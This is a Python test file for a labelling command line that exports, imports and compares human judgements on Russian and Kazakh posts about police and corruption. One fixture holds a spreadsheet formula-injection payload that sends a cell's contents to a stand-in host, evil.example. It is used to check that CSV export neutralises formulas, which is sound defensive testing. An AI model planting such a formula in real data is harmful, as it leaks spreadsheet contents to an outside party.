"""The way of labels through the command line: drawn, handed out, filled in, read in, compared."""

from __future__ import annotations

import csv
import json
import sqlite3
from contextlib import closing
from datetime import UTC, datetime, timedelta

import pytest
from builders import make_item, make_opinion, make_post
from click.testing import CliRunner
from hypothesis import given
from hypothesis import settings as few
from hypothesis import strategies as st
from installation import install, senim, start, write_jsonl

from models import labelled
from monitor import sheets, verdicts
from monitor.cli import main
from monitor.privacy import SECRET
from monitor.records import Opinion
from monitor.store import Store
from monitor.weeks import local

NAME = "Reader of the Press Office"
TEXT = "Полиция приехала на вызов {n} через десять минут.\nЖители говорят: «взятку просили», и тишина."
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


def make(n, **given):
    return {"title": FORMULA if n == 0 else f"Сообщение {n}", "text": TEXT.format(n=n),
            "language": ("ru", "kk")[n % 2]} | given  # fmt: skip


@pytest.fixture
def home(tmp_path, monkeypatch):
    """A home with twelve posts that a model has judged, a reprint among them, and one that it has not."""
    monkeypatch.setenv(SECRET, "a secret of the tests")
    folder = install(tmp_path / "home")
    (folder / "var").mkdir()
    with Store.open(folder / "var" / "senim.db") as store:
        reprint = make_item(12, **make(2, text=TEXT.format(n=2)))
        store.add(store.begin("test"), [*(make_item(n, **make(n)) for n in range(12)), reprint, make_item(90)])
        with store.writing() as connection:
            rows = connection.execute("SELECT number, id FROM post").fetchall()
            same = {reprint.post.id: post(2).id}
            connection.executemany("INSERT INTO story VALUES (?, ?)", [(n, same.get(name, name)) for n, name in rows])
        judged = [*(post(n) for n in range(12)), reprint.post]
        lead = [0.9, 0.8, 0.5, 0.4]
        store.add_opinions([
            make_opinion(p, probabilities=(lead[n % 4], round(1 - lead[n % 4], 2), 0.0), abstained=n == 3,
                         sentiment=None if n == 3 else "negative")
            for n, p in enumerate(judged)
        ])  # fmt: skip
    return folder


def post(n):
    return make_post(n, **make(n))


@pytest.fixture
def run(home):
    def run(*arguments, rc=0):
        done = CliRunner().invoke(main, ["--home", str(home), "label", *map(str, arguments)])
        assert done.exit_code == rc, done.output
        return done

    return run


def people(home):
    with Store.open(home / "var" / "senim.db") as store:
        return store.people()


def filled(*ns, **given):
    return [{"id": post(n).id, "about": True, "sentiment": "negative",
             "reasons": [{"code": "corruption", "quote": "взятку просили"}]} | given for n in ns]  # fmt: skip


def test_the_queue_begins_with_what_the_model_is_least_sure_of(run):
    found = json.loads(run("queue", "--random", "0", "--json").stdout)
    assert found[0]["id"] == post(3).id
    assert found[0]["reads"] == "abstains"
    assert {x["drawn"] for x in found} == {"unsure"}
    russian = [x["unsure"] for x in found if x["language"] == "ru"]
    assert russian == sorted(russian, reverse=True)
    assert len({x["story"] for x in found}) == len(found) == 12
    assert [x["language"] for x in found[1:7]] == ["kk", "ru"] * 3
    assert {x["language"] for x in json.loads(run("queue", "--language", "kk", "--json").stdout)} == {"kk"}


def test_the_queue_as_a_table_has_its_random_share(run):
    lines = run("queue", "--number", "10").stdout.splitlines()
    assert lines[0].split() == ["id", "language", "model", "reads", "unsure", "drawn", "begins"]
    assert [sum(word in line for line in lines[1:]) for word in (" unsure ", " random ")] == [8, 2]
    assert run("queue", "--number", "10").stdout.splitlines() == lines
    assert run("queue", "--number", "10", "--seed", "2").stdout.splitlines() != lines


@pytest.mark.parametrize("name", ["sheet.jsonl", "sheet.csv"])
def test_a_sheet_is_blind_and_never_written_over(run, tmp_path, name):
    file = tmp_path / name
    assert "12 lines" in run("export", file, "--number", "12").stdout
    rows = read_rows(file)
    assert list(rows[0]) == [
        "id",
        "language",
        "title",
        "text",
        "url",
        "drawn",
        "about",
        "bodies",
        "sentiment",
        "reasons",
    ]
    assert not any(row[field] for row in rows for field in verdicts.FIELDS)
    assert {row["drawn"] for row in rows} == {"unsure", "random"}
    assert [row["drawn"] for row in rows] != sorted((row["drawn"] for row in rows), reverse=True)
    before = file.read_bytes()
    assert "there already" in run("export", file, rc=1).output
    assert file.read_bytes() == before
    assert [f.name for f in tmp_path.iterdir() if f.name.startswith("sheet")] == [name]
    assert "0 labels stored" in run("import", file, "--labeller", NAME).stdout


def read_rows(file):
    if file.suffix == ".jsonl":
        return [json.loads(line) for line in file.read_text("utf-8").splitlines()]
    assert file.read_bytes().startswith(b"\xef\xbb\xbf")
    with file.open(encoding="utf-8-sig", newline="") as table:
        return list(csv.DictReader(table))


def test_a_spreadsheet_sees_no_formula(run, tmp_path):
    run("export", tmp_path / "sheet.csv", "--random", "1")
    titles = [row["title"] for row in read_rows(tmp_path / "sheet.csv")]
    assert f"'{FORMULA}" in titles
    assert not any(title.startswith("=") for title in titles)


def fill_csv(file, to, fill, delimiter=",", encoding="utf-8-sig"):
    """Fill a sheet in as a spreadsheet does, which chooses delimiter and encoding by its country."""
    rows = read_rows(file)
    with to.open("w", encoding=encoding, newline="") as out:
        table = csv.DictWriter(out, list(rows[0]), delimiter=delimiter)
        table.writeheader()
        table.writerows(row | fill(n, row) for n, row in enumerate(rows))


@pytest.mark.parametrize(("delimiter", "encoding"), [(",", "utf-8-sig"), (";", "kz1048"), ("\t", "utf-16")])
def test_what_a_person_fills_in_is_what_counts(run, home, tmp_path, delimiter, encoding):
    run("export", tmp_path / "sheet.csv", "--number", "4")

    def fill(n, row):
        return (
            {"about": "Иә", "sentiment": "Negative", "bodies": "police; courts",
             "reasons": "Corruption: «ВЗЯТКУ  просили» | slow_ineffective: через десять минут.\nЖители"},
            {"about": "no"},
            {"about": "TRUE", "sentiment": "positive"},
            {},
        )[n]  # fmt: skip

    fill_csv(tmp_path / "sheet.csv", tmp_path / "filled.csv", fill, delimiter, encoding)
    said = json.loads(run("import", tmp_path / "filled.csv", "--labeller", NAME, "--json").stdout)
    assert [said[k] for k in ("lines", "stored", "unchanged", "unfilled", "refused")] == [4, 3, 0, 1, 0]
    with Store.open(home / "var" / "senim.db") as store:
        ids = [row["id"] for row in read_rows(tmp_path / "sheet.csv")]
        first, second, third = (store.opinion(name) for name in ids[:3])
        text = store.post(ids[0]).text
        assert len(store.candidates()) == 10
    assert (first.about, first.sentiment, first.bodies) == (True, "negative", ("courts", "police"))
    assert {(r.code, text[r.start : r.end]) for r in first.reasons} == {
        ("corruption", "взятку просили"),
        ("slow_ineffective", "через десять минут.\nЖители"),
    }
    assert (first.confidence, first.probabilities, first.model) == (1, (1, 0, 0), said["labeller"])
    assert (second.about, second.sentiment, second.reasons) == (False, None, ())
    assert (third.sentiment, third.probabilities) == ("positive", (0, 0, 1))


def test_a_second_import_changes_nothing(run, home, tmp_path):
    sheet = write_jsonl(tmp_path / "a.jsonl", [*filled(1, 2), *filled(2)])
    for stored, unchanged in ((2, 1), (0, 3)):
        assert f"{stored} labels stored, {unchanged} known already" in run("import", sheet, "--labeller", NAME).stdout
    run("import", sheet, "--labeller", NAME.upper(), "--at", "2026-02-01")
    before = people(home)
    run("import", sheet, "--labeller", NAME, "--at", "2026-02-01")
    assert people(home) == before
    assert len({label.labeller for label in before}) == 1
    assert {label.at.date() for label in before} == {datetime.now(UTC).date()}


BROKEN = [
    ("{", "not JSON"),
    ("[1]", "no object"),
    ({"about": True, "sentiment": "neutral"}, "no id"),
    ({"id": "0" * 20, "about": False}, "no post '0000"),
    ({"id": "\ud800", "about": False}, "no post"),
    ({"about": None, "sentiment": "neutral"}, "about is empty: write yes or no"),
    ({"about": "maybe"}, "about is 'maybe': write yes or no"),
    ({"sentiment": None}, "sentiment is empty: write negative, neutral or positive"),
    ({"sentiment": 7}, "sentiment is 7"),
    ({"about": False}, "not about a body and yet"),
    ({"bodies": ["polise"]}, "unknown body 'polise': write police"),
    ({"reasons": [{"code": "coruption", "quote": "взятку"}]}, "unknown reason 'coruption': write corruption"),
    ({"reasons": [{"code": "corruption"}]}, "no quote"),
    ({"reasons": [{"code": "corruption", "quote": "денег просили \ud800"}]}, "is not in the text"),
    ({"reasons": [{"code": "corruption", "quote": "Сообщение 5"}]}, "in the title only"),
    ({"reasons": [{"code": "corruption", "start": 5, "end": 900}]}, "offsets outside the text"),
    ({"reasons": [{"code": "corruption", "start": 0, "end": 7, "quote": "вызов"}]}, "does not stand at 0-7"),
    ({"text": "Другое", "reasons": [{"code": "corruption", "start": 0, "end": 7}]}, "another text"),
    ({"reasons": ["corruption"]}, "is no object"),
    ({"sentiment": "positive"}, "has another label in"),
]


def test_every_bad_line_is_named_and_no_good_one_is_lost(run, home, tmp_path):
    lines = [line if isinstance(line, str) else json.dumps(filled(5)[0] | {"id": None} | line if "no id" in what
             else filled(5)[0] | line) for line, what in BROKEN]  # fmt: skip
    good = [json.dumps(x, ensure_ascii=False) for x in filled(5, 6)]
    sheet = tmp_path / "bad.jsonl"
    sheet.write_text("\n".join(["", good[0], *lines, "\x00", good[1]]) + "\n", "utf-8")
    done = run("import", sheet, tmp_path / "missing.jsonl", tmp_path / "x.xlsx", "--labeller", NAME, rc=1)
    assert "2 labels stored" in done.stdout
    assert f"{len(BROKEN) + 3} refused" in done.stdout
    told = done.stderr.splitlines()
    for number, (_, what) in enumerate(BROKEN, 3):
        (line,) = [t for t in told if t.startswith(f"{sheet}:{number}: ")]
        assert what in line
    assert any(t.startswith(f"{tmp_path / 'missing.jsonl'}: cannot be read") for t in told)
    assert any(t.startswith(f"{tmp_path / 'x.xlsx'}: ends in neither") for t in told)
    assert {label.post_id for label in people(home)} == {post(5).id, post(6).id}
    found = json.loads(run("import", sheet, "--labeller", NAME, "--json", rc=1).stdout)
    assert {p["line"] for p in found["problems"]} == {*range(3, len(BROKEN) + 4)}
    assert found["unchanged"] == 2


def test_a_broken_table_is_named_by_its_row(run, tmp_path):
    run("export", tmp_path / "sheet.csv")
    fill_csv(tmp_path / "sheet.csv", tmp_path / "a.csv", lambda n, _: {"about": "no" if n != 4 else "?"})
    assert f"{tmp_path / 'a.csv'}:6: about is '?'" in run("import", tmp_path / "a.csv", "--labeller", NAME, rc=1).stderr
    (tmp_path / "b.csv").write_text("id;text\nx;y\n", "utf-8")
    assert (
        "b.csv:1: the head line names no column about"
        in run("import", tmp_path / "b.csv", "--labeller", "x", rc=1).stderr
    )
    (tmp_path / "c.csv").write_text(f'id,about\nx,yes,no\n"a"b,c\n{post(1).id},no\n"open,', "utf-8")
    done = run("import", tmp_path / "c.csv", "--labeller", "x", rc=1)
    assert "1 labels stored" in done.stdout
    for place in ("c.csv:2: has more cells", "c.csv:3: is broken", "c.csv:5: is broken"):
        assert place in done.stderr


def test_the_name_is_stored_nowhere(run, home, tmp_path, monkeypatch):
    sheet = write_jsonl(tmp_path / "a.jsonl", filled(1))
    key = json.loads(run("import", sheet, "--labeller", NAME, "--json").stdout)["labeller"]
    assert key.startswith("person:")
    for file in (home / "var").iterdir():
        assert NAME.encode() not in file.read_bytes()
        assert NAME.casefold().encode() not in file.read_bytes()
    assert "has no name" in run("import", sheet, "--labeller", " ", rc=1).output
    monkeypatch.delenv(SECRET)
    assert SECRET in run("import", sheet, "--labeller", NAME, rc=1).output
    assert len(people(home)) == 1


def test_wrong_use_is_told(run, tmp_path):
    sheet = write_jsonl(tmp_path / "a.jsonl", filled(1))
    later = f"{datetime.now(UTC) + timedelta(days=2):%Y-%m-%d}"
    assert "still to come" in run("import", sheet, "--labeller", NAME, "--at", later, rc=2).output
    assert "--language only" in run("export", tmp_path / "b.jsonl", "--labelled", "--number", "3", rc=2).output
    assert "ends in neither" in run("export", tmp_path / "b.txt", rc=1).output
    assert "cannot be written" in run("export", tmp_path / "no" / "b.csv", rc=1).output
    assert "no person has labelled" in run("export", tmp_path / "b.csv", "--labelled", rc=1).output
    assert not (tmp_path / "b.csv").exists()
    assert "Nothing to compare" in run("agreement").stderr
    today = f"{local(datetime.now(UTC)):%Y-%m-%d}"
    assert "1 labels stored" in run("import", sheet, "--labeller", "Another", "--at", today).stdout
    run("import", write_jsonl(tmp_path / "c.jsonl", [*filled(*range(12)), {"id": post(2).id}]), "--labeller", NAME)
    assert json.loads(run("queue", "--random", "0", "--json").stdout) == []  # a reprint of what is known is left


def test_two_people_are_compared_by_their_last_words(run, home, tmp_path):
    one = [*filled(*range(5)), *filled(5, 6, about=False, sentiment=None, reasons=[])]
    two = [*filled(0, 1, 2), *filled(3, sentiment="neutral", reasons=[]), *filled(4, reasons=[
        {"code": "slow_ineffective", "quote": "через десять минут"}]), *filled(5, about="no", sentiment="", reasons=[]),
        *filled(6), *filled(7)]  # fmt: skip
    run(
        "import",
        write_jsonl(tmp_path / "0.jsonl", filled(0, sentiment="positive")),
        "--labeller",
        "One",
        "--at",
        "2026-01-01",
    )
    run("import", write_jsonl(tmp_path / "1.jsonl", one), "--labeller", "One")
    run("import", write_jsonl(tmp_path / "2.jsonl", two), "--labeller", "Two")
    told = run("agreement").stdout
    assert told.startswith("7 items, 2 labellers, 1 pairs of them\n")
    for line in ("about yes / no: 1", "sentiment negative / neutral: 1", "reason corruption / none: 1",
                 f"reason corruption / slow_ineffective: 1  ({post(4).id})"):  # fmt: skip
        assert line in told
    found = json.loads(run("agreement", "--json").stdout)
    assert found["figures"][0]["about"]["value"] == pytest.approx((6 / 7 - 32 / 49) / (1 - 32 / 49))
    for name in ("labelled.jsonl", "labelled.csv"):  # what is exported says the same
        run("export", tmp_path / name, "--labelled")
        assert json.loads(run("agreement", tmp_path / name, "--json").stdout) == found
    row = read_rows(tmp_path / "labelled.jsonl")[0]
    assert row["labeller"].startswith("person:")
    assert datetime.fromisoformat(row["at"]).tzinfo
    assert len(list(labelled.read(tmp_path / "labelled.jsonl"))) == len(people(home)) == 15


def test_lines_that_cannot_be_compared_are_named(run, tmp_path):
    line = {
        "id": "x",
        "lang": "ru",
        "labeller": "a",
        "about": True,
        "sentiment": "neutral",
        "reasons": [{"code": "formalism"}],
    }
    bad = [line, line, line | {"labeller": ""}, line | {"reasons": [{"code": "nothing"}]}, {"id": "y", "labeller": "a"}]
    done = run("agreement", write_jsonl(tmp_path / "d.jsonl", [*bad, line | {"labeller": "b"}]), rc=1)
    assert done.stdout.startswith("1 items, 2 labellers")
    assert "nan" not in done.output
    assert [t.split("d.jsonl:")[1].split(":")[0] for t in done.stderr.splitlines()] == ["2", "3", "4"]


def test_a_killed_import_keeps_what_was_stored_and_a_repeat_completes(home, tmp_path):
    with Store.open(home / "var" / "senim.db") as store:
        store.add(1, [make_item(n, **make(n)) for n in range(1000, 1400)])
    sheet = write_jsonl(tmp_path / "a.jsonl", filled(*range(1000, 1400)))
    process = start(home, "label", "import", sheet, "--labeller", NAME)
    database = home / "var" / "senim.db"
    while process.poll() is None and not count(database):
        pass
    process.kill()
    process.communicate()
    stored = count(database)
    assert stored % 100 == 0
    assert f"{400 - stored} labels stored, {stored} known" in senim(home, "label", "import", sheet, "--labeller", NAME)
    assert count(database) == 400


def count(database):
    with closing(sqlite3.connect(database)) as connection:
        return connection.execute("SELECT count(*) FROM label WHERE labeller LIKE 'person:%'").fetchone()[0]


WORDS = st.text("аб«»'=|: \n-1e", min_size=1, max_size=12)
CODES = verdicts.Codes(reasons=("corruption", "formalism"), bodies=("police",), codebook="1")


@few(max_examples=60, deadline=None)
@given(st.lists(st.tuples(st.text(max_size=30), WORDS, st.booleans()), min_size=1, max_size=5))
def test_a_sheet_comes_back_as_it_was_written(tmp_path_factory, given_rows):
    rows = [{"id": f"{n}", "text": text, "about": about, "bodies": ["police"] * about,
             "reasons": [{"code": "corruption", "quote": f"x{words}x"}] * about}
            for n, (text, words, about) in enumerate(given_rows)]  # fmt: skip
    folder = tmp_path_factory.mktemp("sheets")
    sheets.write(folder / "a.csv", rows)
    back = [filled.values for filled in sheets.read(folder / "a.csv")]
    assert [(r["id"], verdicts.about(r["about"]), r["bodies"], r["reasons"]) for r in back] == [
        (r["id"], r["about"], r["bodies"], [x | {"quote": " ".join(x["quote"].split())} for x in r["reasons"]])
        for r in rows
    ]


VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=9) | st.sampled_from(["yes", "police"]),
    lambda x: st.lists(x, max_size=3) | st.dictionaries(st.sampled_from(["code", "quote", "start", "end"]), x),
    max_leaves=6,
)


@few(max_examples=100, deadline=None)
@given(st.dictionaries(st.sampled_from([*verdicts.FIELDS, "text"]), VALUES))
def test_whatever_a_line_holds_it_is_an_opinion_or_told(line):
    read = verdicts.opinion(line, post(1), CODES, "person:x")
    assert isinstance(read, Opinion) or (read and all(isinstance(what, str) for what in read))
